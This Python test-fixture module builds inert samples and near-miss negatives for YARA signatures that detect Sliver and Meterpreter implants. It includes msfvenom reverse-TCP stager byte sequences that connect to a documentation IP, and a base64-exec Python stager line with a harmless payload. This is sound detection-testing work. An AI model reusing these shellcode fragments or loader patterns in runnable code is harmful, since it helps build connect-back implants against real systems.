"""Inert samples and near-misses for signatures/rules/implants.yar.

The stager samples hold only the published byte sequences of msfvenom's stagers, separated by
padding, behind a bare header with no program headers: nothing in them can run.
"""

from __future__ import annotations

from sample_blocks import INERT_NOTE, Builders, a, elf, split, text

SLIVER = "github.com/bishopfox/sliver/"
METTLE_USAGE = (
    "Usage: %s [options]\n",
    "  -h, --help             display help\n",
    "  -u, --uri <uri>        add connection URI\n",
    "  -U, --uuid <uuid>      set the UUID (base64)\n",
    "  -b, --background [0|1] start as a background service\n",
    "  -p, --persist [none|install|uninstall] manage persistence\n",
)
DOC_IP = bytes([198, 51, 100, 23])  # RFC 5737


def elf32(*parts: bytes) -> bytes:
    """elf() marked as ELFCLASS32 (the only header field the 32-bit rules read)."""
    raw = bytearray(elf(*parts))
    raw[4] = 1
    return bytes(raw)


def sliver() -> dict[str, bytes]:
    return {
        "sliver-implant-elf": elf(
            *a(
                "Go build ID: inert",
                SLIVER + "protobuf/sliverpb",
                SLIVER + "protobuf/commonpb",
                SLIVER + "implant/sliver/transports",
                SLIVER + "implant/sliver/handlers",
                "*sliverpb.Envelope",
                "*sliverpb.Register",
            )
        )
    }


def sliver_near() -> dict[str, bytes]:
    # A tool built against Sliver's protobuf package (an armory extension, a client script).
    return {
        "sliver-extension-elf": elf(
            *a("Go build ID: inert", SLIVER + "protobuf/sliverpb", "google.golang.org/protobuf")
        )
    }


def mettle() -> dict[str, bytes]:
    return {"mettle-elf": elf(*a(*METTLE_USAGE, "DEFAULT_OPTS", "default_opts", "fd://%d", "session-guid"))}


def mettle_near() -> dict[str, bytes]:
    # Another getopt program: a usage text with -u/--uri and -b options, nothing of mettle's.
    return {
        "uri-tool-elf": elf(
            *a(
                "Usage: %s [options]\n",
                "  -u, --uri <uri>        add a mirror URI\n",
                "  -b, --background       daemonize\n",
            )
        )
    }


def stager_x64() -> dict[str, bytes]:
    socket = bytes.fromhex("6a0a4159506a2958996a025f6a015e0f05")
    connect = bytes.fromhex("489748b902001151") + DOC_IP + bytes.fromhex("514889e66a105a6a2a580f05")
    mmap = bytes.fromhex("6a095899b6104889d6")
    return {"reverse-tcp-x64-elf": elf(socket, connect, mmap)}


def stager_x64_near() -> dict[str, bytes]:
    # A tiny static ELF that opens a socket (same syscall prologue) but never connects or maps a stage.
    return {"socket-probe-x64-elf": elf(bytes.fromhex("6a2958996a025f6a015e0f05"), *a("probe"))}


def stager_x86() -> dict[str, bytes]:
    socket = bytes.fromhex("6a0a5e31dbf7e35343536a02b06689e1cd80")
    connect = bytes.fromhex("975b68") + DOC_IP + bytes.fromhex("680200115c89e16a665850515789e143cd80")
    mprotect = bytes.fromhex("b207b90010000089e3c1eb0cc1e30cb07dcd80")
    return {"reverse-tcp-x86-elf": elf32(socket, connect, mprotect)}


def stager_x86_near() -> dict[str, bytes]:
    return {"socket-probe-x86-elf": elf32(bytes.fromhex("31dbf7e35343536a02b06689e1cd80"), *a("probe"))}


def python_stager() -> dict[str, bytes]:
    blob = "aW5lcnQgdGVzdCBzYW1wbGUgb2YgdGhlIHNjYW5uZXIgcHJvamVjdA=="
    return {
        "meterpreter-py": text(
            f"# {INERT_NOTE}",
            "raise SystemExit(0)",
            split("import base64,sys;exec(base64.b64decode(", "{2:str,3:lambda b:bytes(b,'UTF-8')}")
            + f"[sys.version_info[0]]('{blob}')))",
        )
    }


def python_stager_near() -> dict[str, bytes]:
    return {
        "decode-config-py": text(
            "import base64, sys",
            "data = base64.b64decode(sys.argv[1])",
            "print(data.decode('utf-8'))",
        )
    }


SAMPLES: Builders = {
    "Sliver_Implant_ELF": sliver,
    "Meterpreter_Mettle_ELF": mettle,
    "Meterpreter_Stager_ELF_x64": stager_x64,
    "Meterpreter_Stager_ELF_x86": stager_x86,
    "Meterpreter_Python_Stager": python_stager,
}

NEARMISS: Builders = {
    "Sliver_Implant_ELF": sliver_near,
    "Meterpreter_Mettle_ELF": mettle_near,
    "Meterpreter_Stager_ELF_x64": stager_x64_near,
    "Meterpreter_Stager_ELF_x86": stager_x86_near,
    "Meterpreter_Python_Stager": python_stager_near,
}
